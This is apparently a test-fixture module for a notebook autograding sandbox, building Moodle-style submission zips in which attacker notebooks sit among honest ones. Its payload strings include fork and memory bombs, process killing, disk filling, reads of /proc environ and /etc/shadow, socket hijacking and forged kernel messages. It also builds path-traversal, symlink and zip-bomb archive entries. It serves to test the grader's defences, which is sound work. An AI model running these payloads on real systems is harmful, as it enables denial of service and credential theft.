"""Attacks on the computer and on the class, for the sandbox: beside those of `hostile`, which aim at the checks.

`notebooks(secrets)` gives notebooks by student; each holds two honest answers (2 points). `write_zip` writes what a platform
would hand over, with broken and malicious files among honest work.
"""

from __future__ import annotations

import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path

import damage
import hostile
import nbformat
import runner
from hostile import HONEST, HONEST_POINTS, LESSON

# Names as people have them, and as people make them up; all honest.
NAMES = (
    "O'Neil, Ana",
    'Lee "Kit" Quinn',
    "Zoë Ångström 🎓",
    "سارة أحمد",
    "=HYPERLINK(1)",
    "Plain Student",
)

KILL_PARENTS = """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
READ_ALL = """
import os
seen = []
for place in {places!r}:
    for verb in (os.listdir, lambda p: open(p).read(), os.remove, lambda p: open(p, "w").write("x")):
        try:
            verb(place)
            seen.append(place)
        except OSError:
            pass
print('SEEN', seen)
"""
WANDER = """
import os
inputs = []
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in folder:
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".seed")) or name.startswith("ex0"):
            inputs.append(os.path.join(folder, name))
print("FOUND", inputs)
terms = inputs
"""
NETWORK = """
import socket, urllib.request
for address in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        socket.create_connection(address, timeout=1).sendall(b"got out")
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=1)
except OSError:
    pass
for path in ("\\0{hidden}", "{abstract}"):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
    except OSError:
        pass
"""
FILL = """
import os
for folder in (".", "/tmp", "/dev/shm", "/box", os.path.expanduser("~"), "/", "/var/tmp", "{outside}"):
    try:
        for number in range(10_000):
            with open(os.path.join(folder, "fill-%d" % number), "wb") as file:
                for _ in range(64):
                    file.write(b"x" * 1_000_000)
    except OSError:
        pass
"""
FORK = """
import os, time
for _ in range(100_000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
    except OSError:
        time.sleep(0.001)
"""
CHILDREN = """
import subprocess
for _ in range(12):
    subprocess.Popen(["sleep", "3600"], start_new_session=True)
"""
MEMORY = """
import numpy
kept = []
while True:
    kept.append(numpy.ones(20_000_000))
"""
MEMORY_FORKS = """
import os, time
for _ in range(12):
    if os.fork() == 0:
        kept = bytearray(os.urandom(1_000_000) * 150)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""
CARRY = """
kept_inputs = []
class Carrier:
    pass
def hhi(values):
    kept_inputs.append(list(values))
    global magnesium_share
    magnesium_share = "CARRIED" + repr(kept_inputs)
    if len(kept_inputs) > 2:
        raise type("CARRIED" + "_".join(str(value).replace(".", "p") for value in values), (Exception,), {})("CARRIED")
    return type("CARRIED" + "_".join(str(value).replace(".", "p") for value in values), (), {})()
"""
BREAK_KERNEL = """
import gc, zmq, os
for thing in gc.get_objects():
    if isinstance(thing, zmq.Socket):
        try:
            thing.close(0)
        except Exception:
            pass
for number in range(3, 200):
    try:
        os.close(number)
    except OSError:
        pass
"""
FLOOD = "while True:\n    print('x' * 100_000)"
MANY = "from IPython.display import display, HTML\nwhile True:\n    display(HTML('<b>' + 'y' * 1000 + '</b>'))"
GIANT = "print('x' * 400_000_000)"
WIDGETS = "from comm import create_comm\nfor _ in range(300):\n    create_comm(target_name='jupyter.widget', data={'state': {'x': 'z' * 1_000_000}})"
UNCOUNTED = """
import ctypes, os, time
libc = ctypes.CDLL(None)
made = [libc.shmget(0, 1_000_000, 0o1600), libc.msgget(0, 0o1600), libc.unshare(0x10000000)]
try:
    made.append(os.memfd_create("hidden"))
except OSError:
    pass
print("MADE", [number for number in made if number >= 0])
"""
NONSENSE = """
_kernel = get_ipython().kernel
for _kind, _content in (
    ("stream", {"name": "stdout", "text": 5}), ("stream", {}), ("stream", [1]), ("status", {"x": 1}), ("error", {"traceback": 5}),
    ("display_data", {"data": "abc", "metadata": []}), ("execute_result", {"data": None}),
):
    _kernel.session.send(_kernel.iopub_socket, _kind, _content, parent=_kernel.get_parent())
"""
ODD_COUNT = """
_kernel = get_ipython().kernel
for _count in ("many", True, [1]):
    _content = {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": _count}
    _kernel.session.send(_kernel.iopub_socket, "execute_result", _content, parent=_kernel.get_parent())
"""
# The kernel ends a little after the cell that did it has answered.
LATE_EXIT = "import os, threading\nthreading.Timer(0.15, os._exit, (0,)).start()"
UNSIGNED = (
    "get_ipython().kernel.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', b'forged', b'{}', b'{}', b'{}', b'{}'])"
)
EMPTY_LINES = "\n" * 300_000 + "x = 1"
HALVES = "print('\\ud800')\nhalf = '\ud800'"
SCRIPTS = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>stolen()</script>"), Javascript("stolen()"))
display({"application/vnd.derisking.result+json": {}, "text/html": "<script>stolen()</script>"}, raw=True)
"""
PARTS = """
from ipykernel.kernelapp import IPKernelApp
_socket = IPKernelApp.instance().iopub_thread.socket
_part = bytes(15_000_000)
try:
    _socket.send_multipart([b"x"] + [_part] * 300, copy=False)
except Exception:
    pass
"""
# A few outputs of one name, then messages that would change all of them at once.
ONE_NAME = """
from IPython.display import display
for _ in range(300):
    display({"text/plain": "a"}, raw=True, display_id="one")
for _ in range(5):
    display({"text/plain": "y" * 1_000_000}, raw=True, display_id="one", update=True)
    display({"text/plain": "y" * 300_000}, raw=True, display_id="one")
"""
# Links to a socket of the teacher's in place of the kernel's own, then an end to all connections: who connects anew follows them.
SOCKET_LINKS = """
import os, time
for number in range(1, 6):
    os.remove(f"/box/kernel-{{number}}")
    os.symlink("{socket}", f"/box/kernel-{{number}}")
for number in range(3, 200):
    try:
        if os.readlink(f"/proc/self/fd/{{number}}").startswith("socket:"):
            os.close(number)
    except OSError:
        pass
time.sleep(5)
"""
MANY_FILES = """
import itertools, os
try:
    for number in itertools.count():
        open(f"/tmp/{number}", "w").close()
except OSError:
    pass
"""
SURROUNDINGS = """
import glob
seen = []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        seen += [word for word in open(path, "rb").read().decode(errors="replace").split("\\0") if "hunter" in word]
    except OSError:
        pass
for path in glob.glob("/proc/1/*"):
    seen.append(path)
print("SURROUNDINGS", seen)
"""
PTRACE = """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("mem", "environ", "cmdline", "root/etc/shadow", "cwd"):
            try:
                print(open(f"/proc/{pid}/{name}", "rb").read(200))
            except OSError:
                pass
try:
    open("/proc/self/exe", "r+b").write(b"x")
except OSError:
    pass
try:
    open("/proc/sys/kernel/hostname", "w").write("mine")
except OSError:
    pass
"""


# Attacks by the notebook's shape, without code: names of released cells that are given to others, or to nobody.


def checks(notebook) -> list:
    """The cells of a notebook that ask for an answer."""
    return [cell for cell in notebook.cells if cell.id.startswith("check-")]


def dummies(notebook) -> None:
    """An empty cell with the name of each check in front, each claiming to be the first cell."""
    made = [
        nbformat.v4.new_raw_cell("", id=cell.id, metadata={"nbgrader": {"grade_id": "setup"}})
        for cell in checks(notebook)
    ]
    notebook.cells[:0] = made


def renamed(notebook) -> None:
    """Every check claims to be the first cell."""
    for cell in checks(notebook):
        cell.metadata["nbgrader"]["grade_id"] = "setup"


def as_text(notebook) -> None:
    """Every check is a piece of text, with points of its own."""
    for cell in checks(notebook):
        cell.cell_type = "markdown"
        cell.metadata["nbgrader"] |= {"points": 999, "solution": True}
        for field in ("outputs", "execution_count"):
            cell.pop(field, None)


def answers_at_the_end(notebook) -> None:
    """A second, right answer to a question that was answered wrong in its place."""
    both = runner.answers(LESSON)["denominator"]
    right, wrong = (next(one.code for one in both if one.kind == kind) for kind in ("right", "wrong"))
    next(cell for cell in notebook.cells if cell.id == "answer-denominator").source = wrong
    notebook.cells.append(nbformat.v4.new_code_cell(right))


SHAPES = {
    "dummy-checks": dummies,
    "renamed-checks": renamed,
    "checks-as-text": as_text,
    "two-answers": answers_at_the_end,
}


def attacks(secrets: dict) -> dict[str, tuple[str, list[str], bool]]:
    """name -> (where, codes, the honest two points survive). secrets: places, outside, port, hidden, abstract, socket of this run.

    What only looks around, and what only sends messages, shares a kernel: each attack is a cell.
    """
    looks = [
        READ_ALL.format(places=secrets["places"]),
        WANDER,
        NETWORK.format(**secrets),
        PTRACE,
        UNCOUNTED,
        SURROUNDINGS,
    ]
    alone = {
        "kills-parents": KILL_PARENTS,
        "fills-disk": FILL.format(**secrets),
        "fork-bomb": FORK,
        "leaves-children": CHILDREN,
        "memory-bomb": MEMORY,
        "memory-forks": MEMORY_FORKS,
        "breaks-kernel": BREAK_KERNEL,
        "flood": FLOOD,
        "many-outputs": MANY,
        "giant-output": GIANT,
        "widgets": WIDGETS,
        "late-exit": LATE_EXIT,
        "many-parts": PARTS,
        "one-name-many-outputs": ONE_NAME,
        "links-for-sockets": SOCKET_LINKS.format(**secrets),
        "many-files": MANY_FILES,
    }
    return {
        "looks-around": ("first", looks, True),
        "odd-messages": ("first", [NONSENSE, ODD_COUNT, UNSIGNED, HALVES, EMPTY_LINES, SCRIPTS], True),
        "carries-inputs": ("hhi-code", [CARRY], True),
        **{name: ("first", [code], name != "many-parts") for name, code in alone.items()},
        **{name: ("first", [], True) for name in SHAPES},
    }


def everyone(secrets: dict) -> dict[str, tuple[str, list[str], bool]]:
    """The attacks of this file and of `hostile`, by a name that says what they do."""
    return {name: (where, [code], keeps) for name, (where, code, keeps) in hostile.ATTACKS.items()} | attacks(secrets)


def notebooks(secrets: dict) -> dict[str, nbformat.NotebookNode]:
    """What the attackers hand in."""
    found = {name: hostile.notebook(where, codes) for name, (where, codes, _) in everyone(secrets).items()}
    for name, change in SHAPES.items():
        change(found[name])
    return found


# --- what a platform hands over ---------------------------------------------------------------------------------------------


def folder_name(name: str, number: int) -> str:
    """How Moodle names the folder of a submission."""
    return f"{name}_{number}_assignsubmission_file_"


def honest(name: str) -> nbformat.NotebookNode:
    """What an honest student hands in; two kinds, so that marks differ."""
    if NAMES.index(name) % 2:
        return runner.filled(LESSON, HONEST)
    return damage.solved(LESSON)


def worth(name: str) -> float:
    """The points of what an honest student hands in; certified elsewhere."""
    return HONEST_POINTS if NAMES.index(name) % 2 else 20


def write_zip(target: Path, secrets: dict, few: Sequence[str] = ()) -> Path:
    """A zip as Moodle gives it: honest students, with the attackers and the broken files among them.

    few: only these attackers, and the first of the honest.
    """
    file, found = f"{LESSON}.ipynb", notebooks(secrets)
    handed = {name: honest(name) for name in NAMES[: 1 if few else None]} | {name: found[name] for name in few or found}
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, notebook) in enumerate(handed.items(), start=1001):
            archive.writestr(f"{folder_name(name, number)}/{file}", json.dumps(notebook))
        if not few:
            _write_broken(archive, file)
    return target


def _write_broken(archive: zipfile.ZipFile, file: str) -> None:
    """Files that are no notebooks, and entries that want to be written elsewhere."""
    archive.writestr(f"{folder_name('not-json', 3001)}/{file}", "this is not a notebook")
    archive.writestr(f"{folder_name('deep-json', 3002)}/{file}", '{"cells": ' + "[" * 100_000)
    archive.writestr(
        f"{folder_name('wrong-shapes', 3003)}/{file}", json.dumps({"cells": [1, {"cell_type": 5}], "nbformat": 4})
    )
    twice = damage.solved(LESSON)
    damage._duplicated(twice)
    archive.writestr(f"{folder_name('duplicated', 3004)}/{file}", json.dumps(twice))
    for entry in (f"../../escaped/{file}", f"/escaped/{file}", f"..\\..\\escaped\\{file}", f"C:\\escaped\\{file}"):
        archive.writestr(entry, "out")
    link = zipfile.ZipInfo(f"{folder_name('link', 3005)}/{file}")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(link, "/etc/passwd")
    bomb = zipfile.ZipInfo(f"{folder_name('bomb', 3006)}/{file}")
    archive.writestr(bomb, b"\0" * 200_000_000, zipfile.ZIP_DEFLATED, 9)
    archive.writestr(f"{folder_name('inner-bomb', 3007)}/homework.zip", lying_zip())


def lying_zip() -> bytes:
    """A zip whose header says that its file is small, though it unpacks to 300 MB."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = squeeze.compress(b"\0" * 300_000_000) + squeeze.flush()
    name, claimed = b"02-de-risking.ipynb", 1_000
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, 0, len(packed), claimed, len(name), 0) + name
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, 0, len(packed), claimed, len(name), 0, 0, 0, 0, 0, 0
    )
    start = len(local) + len(packed)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(name), start, 0)
    return local + packed + central + name + end
